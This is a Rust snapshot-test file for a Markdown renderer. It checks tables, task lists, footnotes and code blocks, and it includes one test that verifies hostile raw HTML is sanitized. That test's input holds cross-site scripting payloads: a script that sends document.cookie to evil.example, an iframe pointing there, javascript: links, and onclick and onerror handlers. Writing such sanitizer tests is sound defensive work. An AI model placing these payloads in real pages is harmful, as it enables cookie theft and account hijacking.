//! Snapshots of rendered Markdown: any change to the HTML authors get is reviewed.

use quire_compiler::markdown::render;

#[test]
fn technical_post_features() {
    let markdown = r#"## Setting up *replication*

Streaming replication keeps a hot standby -- "cheap" insurance.

| setting | value |
|---|---:|
| `wal_level` | replica |
| `max_wal_senders` | 10 |

- [x] take a base backup
- [ ] promote the standby

~~Logical~~ physical replication.[^lag]

```sql
SELECT pg_is_in_recovery();
```

### Checking lag {#lag-check}

See the [docs](https://www.postgresql.org/docs/) and [the FAQ](/faq).

[^lag]: Lag is measured in bytes of WAL.
"#;
    insta::assert_snapshot!(render(markdown).html);
}

#[test]
fn hostile_raw_html_is_sanitized() {
    let markdown = r#"<div onclick="steal()" style="color:red">text</div>

<script>fetch('https://evil.example/'+document.cookie)</script>

<iframe src="https://evil.example"></iframe>

<a href="javascript:alert(1)">click</a> <img src="/cat.png" alt="cat" onerror="x()">

[md link](javascript:alert(1))
"#;
    insta::assert_snapshot!(render(markdown).html);
}

#[test]
fn code_blocks_known_and_unknown_languages() {
    let markdown = "```rust,ignore\nfn main() { println!(\"<hi>\"); }\n```\n\n```klingon\nqaStaH nuq?\n```\n\n```\nno language\n```\n";
    insta::assert_snapshot!(render(markdown).html);
}
